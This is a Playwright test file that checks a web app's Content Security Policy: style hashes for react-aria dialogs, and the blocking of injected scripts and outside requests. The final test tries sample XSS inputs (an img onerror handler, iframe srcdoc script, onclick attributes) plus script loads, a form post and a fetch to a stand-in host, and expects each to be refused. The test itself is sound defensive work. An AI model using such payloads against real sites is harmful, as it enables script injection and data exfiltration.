// react-aria writes <style> elements into the document. The policy knows them by their text (server/http/page-policy.ts), so what the
// installed version really writes is compared with it here: a new version that writes others would lose them without a word.
import { createHash } from 'node:crypto'
import type { Page, Request } from '@playwright/test'
import { reactAriaStyles } from '../server/http/page-policy.ts'
import { expect, houseUrl, signIn } from './house.ts'
import { FILMED, lessonPath, settle, test } from './people.ts'

const PRESSABLE = 'react-aria-pressable-style'
const dialog = (page: Page) => page.getByRole('dialog').or(page.getByRole('alertdialog'))
const dialogs = [
  {
    name: 'leaving a phase',
    path: '/my/learning',
    open: (page: Page) => page.getByRole('button', { name: /^Leave / }).click(),
  },
  {
    name: 'please_done_video',
    path: lessonPath(FILMED),
    open: (page: Page) => page.getByRole('button', { name: 'Mark the video complete' }).click(),
  },
] as const

/** The text of every style element that did not come with the page, and of how many rules the browser let it have. */
const readWritten = (page: Page) =>
  page.evaluate(
    (id) =>
      [...document.querySelectorAll('style')]
        .filter((element) => element.id !== id)
        .map((element) => ({ text: element.textContent, rules: element.sheet?.cssRules.length ?? 0 })),
    PRESSABLE,
  )

/** react-aria knows an iPhone by its platform; only there it writes a style of its own for an open dialog. */
const pretendIPhone = (page: Page) =>
  page.addInitScript(() => {
    Object.defineProperty(navigator, 'platform', { get: () => 'iPhone' })
    Object.defineProperty(navigator, 'userAgentData', { get: () => undefined })
  })

for (const { name, path, open } of dialogs) {
  test(`the dialog ${name} writes no style of its own on a desktop`, async ({ page, people }) => {
    await signIn(page, people.student)
    await page.goto(path)
    await settle(page)
    await open(page)
    await expect(dialog(page)).toBeVisible()
    expect(await readWritten(page)).toEqual([])
  })

  test(`the dialog ${name} writes on an iPhone what the policy allows, and the browser takes it`, async ({
    page,
    people,
  }) => {
    await pretendIPhone(page)
    await signIn(page, people.student)
    await page.goto(path)
    await settle(page)
    await open(page)
    await expect(dialog(page)).toBeVisible()
    expect(await readWritten(page)).toEqual(reactAriaStyles.map((text) => ({ text, rules: 1 })))
    await page.keyboard.press('Escape')
    await expect(dialog(page)).toBeHidden()
    expect(await readWritten(page)).toEqual([])
  })
}

test("the page's own style bears the id that keeps react-aria's second one away, on every way to a dialog", async ({
  page,
  people,
}) => {
  await signIn(page, people.student)
  await page.goto('/questions')
  await settle(page)
  await page.getByRole('contentinfo').getByRole('link', { name: 'My Courses' }).click() // the router's own styles are in the document now
  await page.getByRole('button', { name: '中文' }).first().click()
  await expect(page.locator('html')).toHaveAttribute('lang', 'zh-CN')
  await page.getByRole('button', { name: /^退出/ }).first().click()
  await expect(dialog(page)).toBeVisible()
  expect(await page.evaluate((id) => document.querySelectorAll(`style#${id}`).length, PRESSABLE)).toBe(1)
  expect(await readWritten(page)).toEqual([])
})

test('the policy names exactly these texts, and refuses another', async ({ page }) => {
  const policy = (await fetch(`${houseUrl()}/questions`)).headers.get('content-security-policy') ?? ''
  const rule = /style-src-elem ([^;]*)/.exec(policy)?.[1] ?? ''
  for (const text of reactAriaStyles)
    expect(rule).toContain(`'sha256-${createHash('sha256').update(text).digest('base64')}'`)
  expect(rule).not.toContain('unsafe')
  const unwatched = await page.context().newPage() // the violation is what is wanted here
  await unwatched.goto('/questions')
  const isRefused = await unwatched.evaluate(() => {
    const style = document.createElement('style')
    style.textContent = '* { color: red }'
    document.head.append(style)
    return style.sheet === null
  })
  expect(isRefused).toBe(true)
})

test('no script but the page’s own runs, nothing is made into code, and nothing is sent or fetched elsewhere', async ({
  page,
}) => {
  const unwatched = await page.context().newPage() // the violations are what is wanted here
  const left: string[] = []
  const isForeign = (request: Request) => new URL(request.url()).host !== new URL(houseUrl()).host
  // Those that the policy stops are told of too, as stopped by it.
  unwatched.on('requestfinished', (request) => isForeign(request) && left.push(request.url()))
  unwatched.on(
    'requestfailed',
    (request) =>
      isForeign(request) &&
      request.failure()?.errorText !== 'csp' &&
      left.push(`${request.url()}: ${request.failure()?.errorText}`),
  )
  await unwatched.goto('/home')
  const violated = await unwatched.evaluate(async () => {
    const seen = new Set<string>()
    document.addEventListener('securitypolicyviolation', (event) => seen.add(event.effectiveDirective))
    const refused: string[] = []
    const must = (name: string, write: () => unknown) => {
      try {
        write()
      } catch {
        refused.push(name)
      }
    }
    const add = (tag: string, attributes: Record<string, string>, text = '') =>
      document.body.append(Object.assign(document.createElement(tag), attributes, { textContent: text }))
    const bare = document.createElement('script')
    bare.append('window.ran = 1') // past every setter
    document.body.append(bare)
    must('text', () => add('script', {}, 'window.ran = 1'))
    must('src', () => add('script', { src: 'https://elsewhere.example/x.js' }))
    must('html', () =>
      Object.assign(document.createElement('div'), { innerHTML: '<img src=x onerror="window.ran = 1">' }),
    )
    must('frame', () => Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.ran = 1</script>' }))
    must('policy', () =>
      (
        window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => object } }
      ).trustedTypes.createPolicy('mine', {}),
    ) // no type of ours knows it
    await import(`https://${'elsewhere'}.example/x.js`).catch(() => {})
    add('button', {}, 'x')
    must('handler', () => document.querySelector('button:last-of-type')?.setAttribute('onclick', 'window.ran = 1'))
    add('img', { src: 'https://elsewhere.example/seen.png' })
    add('iframe', { src: 'https://elsewhere.example/' })
    must('object', () => add('object', { data: 'https://elsewhere.example/x.swf' }))
    add('base', { href: 'https://elsewhere.example/' })
    const form = Object.assign(document.createElement('form'), { action: 'https://elsewhere.example/', method: 'post' })
    document.body.append(form)
    form.submit()
    await fetch('https://elsewhere.example/?told=1').catch(() => {})
    // In a frame of the page's own: what the test's line to the browser does at once, it may.
    requestAnimationFrame(() => void seen.add(String(Reflect.construct(Function, ['return "made into code"'])())))
    for (let waited = 0; seen.size < 8 && waited < 300; waited++) await new Promise(requestAnimationFrame)
    return { seen: [...seen, ...('ran' in window ? ['ran'] : [])].sort(), refused }
  })
  expect(violated.refused).toEqual(['text', 'src', 'html', 'frame', 'policy', 'handler', 'object'])
  expect(violated.seen).toEqual([
    'base-uri',
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'require-trusted-types-for',
    'script-src-elem',
    'trusted-types',
  ])
  expect(left).toEqual([])
})
